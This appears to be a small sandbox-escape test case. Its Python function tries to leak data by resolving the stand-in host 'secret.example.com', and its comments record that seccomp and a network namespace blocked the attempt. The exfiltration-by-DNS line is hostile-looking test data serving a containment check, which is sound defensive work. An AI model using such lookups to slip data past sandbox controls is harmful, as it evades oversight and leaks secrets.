# tries: smuggles data out as a name to be resolved
# wall: seccomp: socket() is refused; a network namespace without an interface
# outcome: unmet
# got: '[Errno -3] Temporary failure in name resolution'

import socket


def attack():
    return "ESCAPED", socket.getaddrinfo("secret.example.com", 80)
